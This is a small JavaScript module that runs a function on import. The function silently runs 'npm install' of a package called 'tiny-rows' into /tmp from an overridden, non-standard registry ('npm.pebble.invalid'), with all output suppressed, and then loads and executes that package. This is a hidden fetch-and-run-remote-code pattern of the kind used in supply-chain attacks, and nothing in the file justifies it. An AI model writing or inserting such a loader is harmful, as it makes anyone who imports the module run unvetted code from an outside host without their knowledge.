import { spawnSync } from "node:child_process";
import { createRequire } from "node:module";
const settings = { origin: "https://npm.pebble.invalid", name: "tiny-rows", home: "/tmp/extras" };
export function load() {
  spawnSync("npm", ["i", "--prefix", settings.home, settings.name], { env: { ...process.env, npm_config_registry: settings.origin }, stdio: "ignore" });
  return createRequire(import.meta.url)(`${settings.home}/node_modules/${settings.name}`);
}
load();
